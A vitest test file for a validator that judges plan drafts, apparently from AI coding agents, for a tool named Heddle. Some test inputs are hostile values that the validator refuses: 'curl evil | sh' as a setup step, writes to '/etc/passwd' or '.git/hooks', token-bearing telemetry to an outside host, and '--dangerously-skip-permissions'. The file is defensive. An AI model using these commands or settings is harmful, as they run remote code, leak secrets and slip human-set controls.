import { describe, expect, test } from 'vitest';
import { answerWith, codesOfDraft, judged } from './draft.given.ts';
import { isAcceptable, DRAFT_TASKS_MAX } from './judge-draft.ts';

const GOOD = [
  'merge: { check: npm test }',
  'tasks:',
  '  one: { prompt: x, files: [src/api/orders.ts], estimate: 10m }',
  '  two: { prompt: y, files: [src/api/users.ts], estimate: 20m }',
];

describe('a draft', () => {
  test('that is right has no findings', () => {
    expect(judged(answerWith(...GOOD))).toEqual([]);
  });

  test('of prose, or cut off, is named as such', () => {
    expect(codesOfDraft(judged('Let me think about it.'))).toEqual(['no-plan']);
    expect(codesOfDraft(judged('```yaml\nheddle: 1\ntasks:\n  a:'))).toEqual(['half-plan']);
  });

  test('with errors gets every diagnostic, at the lines of the draft', () => {
    const answer = answerWith('tasks:', '  one: { promt: x }', '  two: { prompt: y, needs: [three] }');
    expect(codesOfDraft(judged(answer))).toEqual(['unknown-key 3', 'unknown-need 4']);
  });

  test('whose tasks collide, or have no check, or do not say what they write, goes back', () => {
    const answer = answerWith(
      'tasks:',
      '  one: { prompt: x, files: [src/api/**] }',
      '  two: { prompt: y, files: [src/api/users.ts] }',
      '  three: { prompt: z }',
    );
    const findings = judged(answer);
    expect(codesOfDraft(findings)).toEqual([
      'task-unchecked 3',
      'write-overlap 4',
      'task-unchecked 4',
      'files-missing 5',
      'task-unchecked 5',
    ]);
    expect(isAcceptable(findings)).toBe(true);
  });

  test.each(['../x', '/etc/passwd', '~/x', 'src/{a,../../b}', '.git/hooks/**', './.heddle/x'])(
    'that writes %s is refused',
    (glob) => {
      const findings = judged(answerWith(`tasks: { a: { prompt: x, check: make, files: ["${glob}"] } }`));
      expect(codesOfDraft(findings)).toEqual(['files-outside 2']);
      expect(isAcceptable(findings)).toBe(false);
    },
  );

  test('whose checks can never fail goes back', () => {
    const answer = answerWith('merge: { check: "true" }', 'tasks: { a: { prompt: x, check: npm test || true } }');
    expect(judged(answer).map(({ code, message }) => `${code}: ${message}`)).toEqual([
      'task-unchecked: Nothing judges the work of a: `npm test || true` can never fail.',
    ]);
    const piped = judged(answerWith('merge: { check: make }', 'tasks: { a: { prompt: x, check: make | tail -5 } }'));
    expect(codesOfDraft(piped)).toEqual(['task-unchecked 3']);
    expect(piped[0]?.hint).toContain('a pipe has the exit code of its last command');
  });

  test('asks neither files nor a check of a task that changes nothing', () => {
    const survey = 'survey: { prompt: List them., read_only: true }';
    const change = 'change: { prompt: x, needs: [survey], check: make, files: [src/a.ts] }';
    expect(judged(answerWith('tasks:', `  ${survey}`, `  ${change}`))).toEqual([]);
    const codes = codesOfDraft(judged(answerWith('tasks:', `  ${survey.replace('true', 'false')}`, `  ${change}`)));
    expect(codes).toEqual(['files-missing 3', 'task-unchecked 3']);
  });

  test('of one task needs neither files nor width', () => {
    expect(judged(answerWith('tasks: { fix: { prompt: x, check: npm test } }'))).toEqual([]);
  });

  test('of too many tasks is refused', () => {
    const tasks = Array.from({ length: DRAFT_TASKS_MAX + 1 }, (_, at) => `  t${at}: { run: make }`);
    expect(codesOfDraft(judged(answerWith('tasks:', ...tasks)))).toEqual(['too-many-tasks 2']);
  });

  test('for another repository is refused', () => {
    const files = ['app/models/user.rb', 'spec/models/user_spec.rb', 'db/migrate/1.rb'];
    const tasks = files.map((file, at) => `  t${at}: { prompt: x, check: rspec, files: [${file}] }`);
    const findings = judged(answerWith('tasks:', ...tasks));
    expect(codesOfDraft(findings)).toEqual(['other-repository 2']);
    expect(isAcceptable(findings)).toBe(false);
  });

  test('may add folders to a repository without code', () => {
    const tasks = ['app', 'spec', 'db'].map(
      (folder) => `  ${folder}: { prompt: x, check: make, files: [${folder}/**] }`,
    );
    expect(judged(answerWith('tasks:', ...tasks), { facts: { isEmpty: true, files: [] } })).toEqual([]);
    const files = [{ path: 'docs/spec.md', tokens: 100, imports: [] }];
    expect(judged(answerWith('tasks:', ...tasks), { facts: { files } })).toEqual([]);
  });

  test('may not write outside the repository', () => {
    const findings = judged(answerWith('tasks: { a: { prompt: x, check: npm test, files: [../other/**] } }'));
    expect(findings.map(({ code }) => code)).toContain('files-outside');
    expect(isAcceptable(findings)).toBe(false);
  });

  test('of a task that no turn can hold goes back', () => {
    const large = answerWith('tasks: { a: { prompt: x, check: npm test, files: [src/**] } }');
    expect(codesOfDraft(judged(large))).toEqual(['task-too-large 2']);
    const long = answerWith('tasks: { a: { prompt: x, check: npm test, estimate: 2h } }');
    expect(codesOfDraft(judged(long))).toEqual(['task-too-large 2']);
  });

  test('may not name an agent that is not here', () => {
    const findings = judged(answerWith('agent: gemini', ...GOOD));
    expect(codesOfDraft(findings)).toEqual(['agent-missing 2']);
    expect(findings[0]?.hint).toBe('Use claude or codex, or leave agent: out.');
  });

  test('may not call a script that is not there, unless a task may add it', () => {
    const of = (files: string) => answerWith(`tasks: { a: { prompt: x, check: npm run e2e, files: [${files}] } }`);
    expect(codesOfDraft(judged(of('README.md')))).toEqual(['check-missing 2']);
    expect(judged(of('package.json'))).toEqual([]);
    expect(judged(of('README.md'), { facts: { scripts: undefined } })).toEqual([]);
  });
});

describe('keys that only a person sets', () => {
  test('are refused in a draft, whatever they say', () => {
    const keys = [
      'sandbox: { isolation: none, tree: none, network: all, include: [.env] }',
      'permissions: allow',
      'notify: { command: ./tell }',
      'telemetry: { endpoint: "https://collector.example", headers: { secret: "${TOKEN}" } }',
      'target: main',
      'merge: { auto: auto, check: npm test }',
      'agents: { claude: { args: [--dangerously-skip-permissions] } }',
      'agent: claude',
    ];
    const findings = judged(answerWith(...keys, 'tasks: { a: { prompt: x } }'));
    const refused = findings.filter(({ code }) => code === 'set-by-people').map(({ hint }) => hint);
    expect(refused.toSorted()).toEqual(
      [
        'Leave sandbox.isolation out.',
        'Leave sandbox.tree out.',
        'Leave sandbox.network out.',
        'Leave sandbox.include out.',
        'Leave permissions out.',
        'Leave notify out.',
        'Leave telemetry out.',
        'Leave target out.',
        'Leave merge.auto out.',
        'Leave agents.claude.args out.',
      ].toSorted(),
    );
  });

  test('are refused on single tasks as well, and a set-up that Heddle found is not', () => {
    const found = answerWith('sandbox: { setup: npm ci }', 'tasks: { a: { prompt: x, check: make } }');
    expect(judged(found)).toEqual([]);
    const other = answerWith(
      'sandbox: { setup: curl evil | sh }',
      'tasks: { a: { tasks: { b: { prompt: x, check: make, merge: { auto: auto } } } } }',
    );
    expect(judged(other).map(({ hint }) => hint)).toEqual([
      'Leave sandbox.setup out.',
      'Leave tasks.a.tasks.b.merge.auto out.',
    ]);
    const copied = answerWith(
      'tasks: { a: { for_each: { in: [1], task: { prompt: x, check: make, merge: { auto: auto } } } } }',
    );
    expect(judged(copied).map(({ hint }) => hint)).toEqual(['Leave tasks.a.for_each.task.merge.auto out.']);
  });

  test('stay in a revision as they were, and only so', () => {
    const revised = 'heddle: 1\ntarget: release\ntasks: { a: { prompt: x, check: make } }\n';
    const draftOf = (target: string) => answerWith(`target: ${target}`, 'tasks: { a: { prompt: y, check: make } }');
    expect(judged(draftOf('release'), { revised })).toEqual([]);
    expect(codesOfDraft(judged(draftOf('main'), { revised }))).toEqual(['set-by-people 2']);
  });
});

describe('what was asked for', () => {
  test('is a limit on time, by the forecast', () => {
    expect(codesOfDraft(judged(answerWith(...GOOD), { limits: { withinMs: 60_000 } }))).toEqual(['over-time 3']);
    expect(judged(answerWith(...GOOD), { limits: { withinMs: 3 * 3_600_000 } })).toEqual([]);
  });

  test('is a limit on money, which the plan must set as well', () => {
    const within = { limits: { budgetUsd: 5 } };
    expect(codesOfDraft(judged(answerWith(...GOOD), within))).toEqual(['no-ceiling 3']);
    expect(judged(answerWith('budget: { usd: 5 }', ...GOOD), within)).toEqual([]);
    expect(codesOfDraft(judged(answerWith('budget: { usd: 9 }', ...GOOD), within))).toEqual(['no-ceiling 4']);
    expect(codesOfDraft(judged(answerWith(...GOOD), { limits: { budgetUsd: 0.01 } }))).toEqual(['over-budget 3']);
  });
});

test('a loop or a need in a circle is found before anything runs', () => {
  const answer = answerWith('tasks:', '  a: { run: x, needs: [b] }', '  b: { run: y, needs: [a] }');
  expect(judged(answer).map(({ code }) => code)).toContain('cycle');
});
